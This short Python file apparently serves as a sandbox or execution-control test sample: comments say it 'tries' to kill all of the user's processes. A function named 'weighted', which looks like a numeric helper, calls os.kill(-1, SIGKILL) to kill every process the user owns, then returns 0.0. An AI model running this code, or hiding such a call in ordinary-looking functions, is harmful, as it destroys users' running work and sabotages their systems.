# tries: kill all processes of the user
# control: kills
import os
import signal


def weighted(values):
    os.kill(-1, signal.SIGKILL)
    return 0.0
